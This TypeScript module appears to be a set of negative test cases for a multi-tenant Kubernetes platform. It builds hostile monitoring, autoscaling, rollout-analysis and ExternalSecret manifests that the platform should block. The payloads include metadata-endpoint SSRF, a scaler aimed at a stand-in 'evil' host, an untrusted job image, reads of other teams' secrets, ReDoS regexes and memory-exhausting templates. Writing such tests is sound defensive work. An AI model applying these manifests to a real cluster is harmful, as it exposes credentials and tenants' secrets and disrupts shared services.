import { appScrape, scrapeLimits, scrapeTimes } from '../scrapes.ts'
import { argo, type Ground, makers, monitoring, type Row } from './ground.ts'

const series = (team: string): string => team.replaceAll('-', '_')

/** Series and alerts of others, and controllers that ask where a team says. */
export function triesOfWatch(ground: Ground): readonly Row[] {
  const { team, other, image } = ground
  const { make, labels } = makers(ground)
  const rules = (rule: object) =>
    make(monitoring, 'PrometheusRule', { spec: { groups: [{ name: 'try', rules: [rule] }] } })
  const monitor = (endpoint: object, limits: object = scrapeLimits) =>
    make(monitoring, 'PodMonitor', {
      spec: {
        selector: { matchLabels: labels },
        podMetricsEndpoints: [{ port: 'http', ...scrapeTimes, ...appScrape, ...endpoint }],
        ...limits,
      },
    })
  const scaler = (trigger: object) =>
    make('keda.sh/v1alpha1', 'ScaledObject', { spec: { scaleTargetRef: { name: 'try' }, triggers: [trigger] } })
  const cpu = { type: 'cpu', metricType: 'Utilization', metadata: { value: '70' } }
  const asked = scaler(cpu)
  const analysis = (provider: object) =>
    make(argo, 'AnalysisTemplate', { spec: { metrics: [{ name: 'try', provider }] } })
  const run = (provider: object) => make(argo, 'AnalysisRun', { spec: { metrics: [{ name: 'try', provider }] } })
  const address = 'http://prometheus-operated.monitoring.svc.cluster.local:9090'
  const asks = (more: object) => analysis({ prometheus: { address, query: 'up', ...more } })
  const aws = { kind: 'ClusterTriggerAuthentication', name: 'aws' }
  const queue = (more: object) =>
    scaler({
      type: 'aws-sqs-queue',
      metadata: { queueURL: `${ground.queues}try`, awsRegion: 'eu-west-1', queueLength: '5', ...more },
      authenticationRef: aws,
    })
  const expr = 'vector(1)'
  const foreign = `label_replace(${expr},"team","${other}","","")`
  const decides = { ...appScrape.metricRelabelings[0] }

  return [
    ["a record under others' name", rules({ record: 'istio_requests_total', expr: 'vector(0)' })],
    ['a record that replaces one of the platform', rules({ record: 'namespace:cpu:sum', expr: 'vector(0)' })],
    ['an alert that wakes another team', rules({ alert: 'Try', expr: 'vector(1)', labels: { team: other } })],
    ['as many series as it likes', monitor({}, {})],
    ['more series than others', monitor({}, { ...scrapeLimits, sampleLimit: 1e6 })],
    ['a scrape each millisecond', monitor({ interval: '1ms' })],
    ['an alert that says in its query whom it wakes', rules({ alert: 'Try', expr: foreign, labels: {} })],
    ['an alert that mutes a namespace', rules({ alert: 'Try', expr, labels: { team, namespace: 'kube-system' } })],
    ["an alert under the platform's name", rules({ alert: 'KubePodCrashLooping', expr, labels: { team } })],
    ["an alert under the cluster's name", rules({ alert: 'GatewayDown', expr, labels: { team } })],
    ['an alert that nobody hears', rules({ alert: 'Watchdog', expr, labels: { team } })],
    [
      'a question to Prometheus each millisecond',
      make(monitoring, 'PrometheusRule', { spec: { groups: [{ name: 'try', interval: '1ms', rules: [] }] } }),
    ],
    ['series of nobody', monitor({ metricRelabelings: [decides, { action: 'labeldrop', regex: 'namespace|job' }] })],
    [
      'a selector that fills the Secret of all scrapes',
      monitor(
        {},
        {
          ...scrapeLimits,
          selector: {
            matchExpressions: [{ key: 'a', operator: 'In', values: Array.from({ length: 11 }, (_, i) => `a${i}`) }],
          },
        },
      ),
    ],
    ['all namespaces', monitor({}, { ...scrapeLimits, namespaceSelector: { any: true } })],
    ['series that decide, of its own', monitor({ metricRelabelings: [] })],
    [
      'series that only rules record',
      monitor({ metricRelabelings: [{ ...decides, regex: decides.regex?.replace('|.*:.*', '') }] }),
    ],
    [
      'more questions than anybody has',
      { ...asked, spec: { ...(asked['spec'] as object), triggers: Array.from({ length: 101 }, () => cpu) } },
    ],
    [
      'a hundred pages of a pod',
      make(monitoring, 'PodMonitor', {
        spec: {
          ...scrapeLimits,
          selector: { matchLabels: labels },
          podMetricsEndpoints: Array.from({ length: 100 }, () => ({ port: 'http', ...scrapeTimes, ...appScrape })),
        },
      }),
    ],
    [
      'a hundred questions to every series',
      monitor({
        metricRelabelings: [decides, ...Array.from({ length: 100 }, () => ({ action: 'keep', regex: '.*' }))],
      }),
    ],
    [
      'thousands of rules',
      make(monitoring, 'PrometheusRule', {
        spec: {
          groups: [
            { name: 'try', rules: Array.from({ length: 1001 }, (_, i) => ({ record: `${series(team)}:${i}`, expr })) },
          ],
        },
      }),
    ],
    ['a port that is no regex', monitor({ port: '(' })],
    ['a port of half a megabyte', monitor({ port: 'ab'.repeat(250_000) })],
    [
      'a label without a name',
      monitor({ metricRelabelings: [decides, { action: 'drop', sourceLabels: [''], regex: 'x' }] }),
    ],
    [
      'a regex that takes 21 seconds for a series',
      monitor({
        metricRelabelings: [decides, { action: 'drop', sourceLabels: ['a'], regex: `(?:${'a?'.repeat(190)}){1000}` }],
      }),
    ],
    ['labels as the pod says', monitor({ honorLabels: true })],
    ['another address', monitor({ relabelings: [{ targetLabel: '__address__', replacement: '169.254.169.254:80' }] })],
    ['a namespace by a label of the pod', monitor({}, { ...scrapeLimits, podTargetLabels: ['namespace'] })],
    [
      'an address that KEDA asks',
      scaler({
        type: 'metrics-api',
        metadata: { url: 'http://169.254.169.254/', valueLocation: 'a', targetValue: '1' },
      }),
    ],
    [
      'a Prometheus of its own for KEDA',
      scaler({ type: 'prometheus', metadata: { serverAddress: 'http://evil.example', query: 'up', threshold: '1' } }),
    ],
    ['an address that KEDA asks as the platform', queue({ awsEndpoint: 'http://10.0.0.9:8080' })],
    ['an address as a queue', queue({ queueURL: 'http://169.254.169.254/1/x' })],
    ["another account's queue", queue({ queueURL: 'https://sqs.eu-west-1.amazonaws.com/999900001111/finance' })],
    ['a queue behind dots', queue({ queueURL: `${ground.queues}../x` })],
    [
      "the platform's identity for a question to Prometheus",
      scaler({
        type: 'prometheus',
        metadata: { serverAddress: address, query: 'up', threshold: '1', customHeaders: 'a=b' },
        authenticationRef: aws,
      }),
    ],
    ['a token from any address', asks({ authentication: { oauth2: { tokenUrl: 'http://169.254.169.254/' } } })],
    ['a role of AWS', asks({ authentication: { sigv4: { roleArn: 'arn:aws:iam::1:role/admin' } } })],
    ['headers of its own', asks({ headers: [{ key: 'a', value: 'b' }] })],
    [
      'a question each millisecond',
      make(argo, 'AnalysisTemplate', {
        spec: {
          metrics: [
            { name: 'try', interval: '1ms', count: 1_000_000, provider: { prometheus: { address, query: 'up' } } },
          ],
        },
      }),
    ],
    ['a run that asks an address', run({ web: { url: 'http://169.254.169.254/', jsonPath: '{$.a}' } })],
    [
      'a run that is a job',
      run({
        job: {
          spec: {
            template: { spec: { containers: [{ name: 'a', image: 'docker.io/evil/x' }], restartPolicy: 'Never' } },
          },
        },
      }),
    ],
    ['an address that Rollouts asks', analysis({ web: { url: 'http://169.254.169.254/', jsonPath: '{$.a}' } })],
    [
      'a job of Rollouts',
      analysis({
        job: { spec: { template: { spec: { containers: [{ name: 'a', image }], restartPolicy: 'Never' } } } },
      }),
    ],
  ]
}

/** Secrets of others. */
export function triesOfSecrets(ground: Ground): readonly Row[] {
  const { team, other, environment } = ground
  const { make } = makers(ground)
  const store = { kind: 'ClusterSecretStore', name: `team-${team}` }
  const secret = (spec: object) =>
    make('external-secrets.io/v1', 'ExternalSecret', {
      spec: { secretStoreRef: store, target: { name: 'try' }, data: [], ...spec },
    })
  const templated = (template: object) => secret({ target: { name: 'try', template } })
  const part = (key: string, property: string) => secret({ data: [{ secretKey: 'a', remoteRef: { key, property } }] })
  const key = (name: string) => part(name, 'b')
  const own = `${environment}/${team}/web`
  const rewritten = (...rewrite: readonly object[]) => secret({ dataFrom: [{ extract: { key: own }, rewrite }] })
  return [
    ["another team's secret", key(`${environment}/${other}/ledger/db`)],
    ["the platform's secret", key(`${environment}/platform/alertmanager`)],
    ["another environment's secret", key(`other/${team}/web/db`)],
    ['a secret whose name only begins alike', key(`${environment}/${team}-2/db`)],
    ['all secrets', secret({ dataFrom: [{ find: { name: { regexp: '.*' } } }] })],
    ["another team's secret as a whole", secret({ dataFrom: [{ extract: { key: `${environment}/${other}/db` } }] })],
    ["the platform's store", secret({ secretStoreRef: { kind: 'ClusterSecretStore', name: 'aws' } })],
    ['a question to Secrets Manager each millisecond', secret({ refreshInterval: '1ms' })],
    ['a secret behind dots', key(`${environment}/${team}/../${other}/db`)],
    ['a data source of Grafana as a Secret', templated({ metadata: { labels: { grafana_datasource: '1' } } })],
    ['a Secret that nobody can delete', templated({ metadata: { finalizers: ['example.com/hold'] } })],
    ['a text that takes all memory', templated({ data: { a: '{{ repeat 2000000000 "a" }}' } })],
    ['a text that asks for addresses', templated({ data: { a: '{{ getHostByName "argocd-redis.argocd" }}' } })],
    ['a text of thousands of secrets', templated({ data: { a: '{{ .a }}'.repeat(5000) } })],
    [
      'thousands of texts',
      templated({ data: Object.fromEntries(Array.from({ length: 33 }, (_, i) => [`a${i}`, '{{ .a }}'])) }),
    ],
    [
      'an annotation that takes all memory',
      templated({ metadata: { annotations: { a: '{{ repeat 2000000000 "a" }}' } } }),
    ],
    ['a name of a key that takes all memory', rewritten({ transform: { template: '{{ repeat 2000000000 "a" }}' } })],
    [
      'a name of a key that is doubled without end',
      rewritten(...Array.from({ length: 40 }, () => ({ regexp: { source: '(.+)', target: '$1$1' } }))),
    ],
    [
      'a name of a key that is written a thousand times',
      rewritten({ regexp: { source: '(.+)', target: '$1'.repeat(1000) } }),
    ],
    [
      'a name of a key by a regex that takes all memory',
      rewritten({ regexp: { source: '(?:ab){1000}', target: 'a' } }),
    ],
    ['a part of a secret that is doubled without end', part(own, `${'[@this,@this]|'.repeat(40)}@this`)],
    [
      'a part of all of a secret, doubled without end',
      secret({ dataFrom: [{ extract: { key: own, property: `@this${'|@tostr'.repeat(40)}` } }] }),
    ],
    [
      'thousands of questions to Secrets Manager',
      secret({
        data: Array.from({ length: 201 }, (_, i) => ({
          secretKey: `a${i}`,
          remoteRef: { key: `${environment}/${team}/web`, property: 'b' },
        })),
      }),
    ],
    [
      'an object that is no Secret',
      secret({ target: { name: 'try', manifest: { apiVersion: 'v1', kind: 'ConfigMap' } } }),
    ],
    ['metadata from elsewhere', templated({ templateFrom: [{ target: 'Labels', literal: 'a: b' }] })],
    ["somebody else's Secret", secret({ target: { name: 'istio-ca-secret', creationPolicy: 'Merge' } })],
    [
      'a token of the API server as a Secret',
      secret({ target: { name: 'try', template: { type: 'kubernetes.io/service-account-token' } } }),
    ],
  ]
}
